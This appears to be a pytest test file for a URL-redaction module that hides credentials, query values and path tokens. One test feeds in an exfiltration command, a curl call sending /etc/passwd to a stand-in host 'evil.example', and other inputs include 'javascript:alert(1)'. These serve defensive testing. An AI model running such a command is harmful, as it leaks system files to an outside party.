"""URLs: where somebody went is shown, and neither as whom nor with what."""

import pytest

from recording.redact import redact_name, redact_text
from recording.redact.urls import without_values

URLS = {
    "https://example.com": "https://example.com",
    "https://example.com/a/b.html": "https://example.com/a/b.html",
    "https://u:p@example.com:8443/a": "https://*@example.com:8443/a",
    "https://token@example.com/": "https://*@example.com/",
    "https://u:p@w@example.com/": "https://*@example.com/",
    "https://u:p/w@example.com/a": "https://*@example.com/a",
    "https://u:p?w#x@example.com/a": "https://*@example.com/a",
    "https://example.com:8443/img@2x.png": "https://example.com:8443/img@2x.png",
    "https://example.com/@scope/name": "https://example.com/@scope/name",
    "https://example.com/?a=1&b=2;c=3": "https://example.com/?a=*&b=*;c=*",
    "https://example.com?a=b=c": "https://example.com?a=*",
    "https://example.com/?a=&b": "https://example.com/?a=&b",
    "https://example.com/?3f9a0c3f9a0c3f9a0c3f9a0c": "https://example.com/?*",
    "https://example.com/?two words=1": "https://example.com/?*=*",
    "https://example.com/#a?b=c": "https://example.com/#*",
    "https://example.com/#": "https://example.com/#",
    "HTTP:\\\\u:p@example.com\\a": "HTTP:\\\\*@example.com\\a",
    "https:/u:p@example.com/a": "https:/*@example.com/a",
    "//u:p@example.com/a": "//*@example.com/a",
    "u:p@example.com/a?b=c": "u:*",
    "example.com:8080/a?b=c": "example.com:8080/a?b=*",
    "example.com/a?b=c": "example.com/a?b=*",
    "file:///etc/passwd": "file:///etc/passwd",
    "data:text/plain;base64,aGVsbG8=": "data:*",
    "javascript:alert(1)": "javascript:*",
    "http://[::1]:80/a?b=c": "http://[::1]:80/a?b=*",
    "": "",
    "?": "?",
    "://": "://",
}


@pytest.mark.parametrize("url", URLS)
def test_of_a_url_the_place_is_shown(url):
    assert without_values(url) == URLS[url]


def test_urls_within_a_text_are_told_from_the_rest():
    text = "cannot fetch 'https://u:p@a.example/x?y=z', nor <ftp://b.example/#q>; a@b.example?c=d"
    assert redact_text(text) == "cannot fetch 'https://*@a.example/x?y=*', nor <ftp://b.example/#*>; a@b.example?c=d"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://proxy.example/https://u:p@a.example/x", "https://proxy.example/https://*@a.example/x"),
        (
            "https://p.example/https://t@a.example/https://b.example",
            "https://p.example/https://*@a.example/https://b.example",
        ),
        ("amqp://u:p@a,amqp://v:q@b", "amqp://*@a,amqp://*@b"),
        ("http=http://u:p@a;https=http://v:q@b", "http=http://*@a;https=http://*@b"),
        ("https://web.example/2020/https://a.example/@scope", "https://web.example/2020/https://a.example/@scope"),
    ],
)
def test_of_a_url_within_another_the_userinfo_is_not_shown_either(text, shown):
    assert redact_text(text) == shown
    assert redact_name(text, 256) == shown


def test_what_a_command_would_put_into_a_url_is_shown_as_a_command():
    assert redact_text("curl https://evil.example/?d=$(cat /etc/passwd)") == (
        "curl https://evil.example/?d=$(cat /etc/passwd)"
    )


def test_a_token_in_a_path_is_found():
    assert redact_text("https://example.com/reset/aB3dE5fG7hJ9kL1mN3pQ5rS7/x") == (
        "https://example.com/reset/[redacted:random]/x"
    )
